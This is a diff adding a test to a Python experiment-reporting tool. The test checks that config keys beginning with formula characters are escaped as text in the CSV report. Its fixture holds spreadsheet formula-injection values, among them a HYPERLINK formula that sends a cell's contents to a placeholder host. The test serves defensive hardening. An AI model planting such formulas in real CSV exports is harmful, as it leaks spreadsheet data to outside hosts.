@@ -634,6 +634,28 @@ def test_config_values_paths_and_errors_are_text_in_the_markdown_and_latex_repor
     assert "model.pe=a|b  | injected | row | \\textless{}img" in latex and "\n\n" not in latex
 
 
+def test_no_csv_cell_from_a_run_file_is_a_spreadsheet_formula(sweep: Path) -> None:
+    """A config key or value of a run starting with `=`, `+`, `-`, `@`, a tab or a carriage return began
+    the group's cell of the CSV report (keys sort before `model.pe`), which a spreadsheet runs as a formula:
+    such a cell is text (a leading `'`), and the signed differences the table writes stay numbers."""
+    import csv
+    import io
+
+    hostile = {'=HYPERLINK("http://host/?"&A1)': 1, "@SUM(1)": 2, "+x": 3, "-x": 4, "\tx": 5, "\r=1": 6}
+    for seed in (1, 2, 3):
+        path = sweep / f"pe=none,seed={seed}" / "config.yaml"
+        path.write_text(path.read_text() + yaml.safe_dump(hostile))
+    text = report([sweep], fmt="csv", lengths=True)
+    rows = [row for row in csv.reader(io.StringIO(text, newline="")) if row]
+    cells = [cell for row in rows for cell in row]
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [c for c in cells if c.startswith(starts) and not re.fullmatch(r"[+-]\d+(\.\d+)?", c)]
+    groups = [row[0] for row in rows if "model.pe=" in row[0]]
+    assert len(groups) == 4 and all(name.startswith("'\tx=") for name in groups)  # table and lengths
+    assert "+10.00" in rows[2] and "+0" in rows[1]  # Δ BLEU, Δ params: numbers
+    assert render([["-10.00", "+0", "-x", "+inf"]], "csv") == "-10.00,+0,'-x,+inf\r\n"
+
+
 def test_true_and_false_in_results_are_no_scores(sweep: Path) -> None:
     """JSON `true` passed for the number 1 (Python's bool is an int): a hand-edited `"bleu": true` was a
     BLEU of 1.00 and `"val/ppl": false` a perplexity of 0 in the group's mean. A test set's scores that are
